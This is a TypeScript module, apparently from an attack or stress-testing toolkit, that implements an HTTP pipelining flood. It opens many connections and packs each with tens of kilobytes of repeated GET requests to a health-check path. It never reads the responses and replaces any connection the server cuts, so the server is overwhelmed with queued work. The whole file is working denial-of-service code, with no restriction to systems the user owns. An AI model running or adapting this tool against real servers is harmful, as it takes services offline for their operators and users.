/** Requests without end on few connections, whose answers nobody reads: each chunk is parsed into some 1,800 of them. */
import type { Socket } from 'node:net'
import { type Attack, get, open, repeat } from './client.ts'

export interface PipeliningAttack extends Attack {
  /** Default: `/healthz`, which is open to everybody. */
  readonly path?: string
  /** Kept open at once; a connection that is cut is replaced. Default: 64. */
  readonly connections?: number
  /** Sent at once on each connection, and on all of them in the same moment. Default: 64 KiB. */
  readonly bytes?: number
}

/** @returns how many connections it made. */
export async function pipelineRequests(attack: PipeliningAttack): Promise<number> {
  const { path = '/healthz', connections = 64, bytes = 65_536 } = attack
  const request = get(path)
  const flood = Buffer.from(request.repeat(Math.ceil(bytes / request.length)))
  const sockets = new Set<Socket>()
  let made = 0
  await repeat(attack, 200, () => {
    // Who does not read notices a reset only by writing; a blank line before a request means nothing.
    for (const socket of sockets) socket.write(socket.bytesWritten === 0 ? flood : '\r\n')
    while (sockets.size < connections) {
      const socket = open(attack, '').pause()
      sockets.add(socket)
      made++
      socket.once('close', () => sockets.delete(socket))
    }
  })
  for (const socket of sockets) socket.removeAllListeners('close').destroy()
  return made
}
